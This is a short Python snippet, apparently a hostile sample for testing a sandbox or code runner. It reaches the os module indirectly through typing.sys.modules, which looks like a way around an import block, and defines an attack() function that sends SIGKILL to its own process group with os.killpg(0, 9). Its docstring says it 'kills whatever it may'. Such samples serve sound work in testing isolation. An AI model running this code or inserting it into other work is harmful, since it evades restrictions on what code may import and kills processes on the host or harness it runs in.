"""Kills whatever it may, its own group first."""

import typing

os = typing.sys.modules["os"]


def attack():
    os.killpg(0, 9)
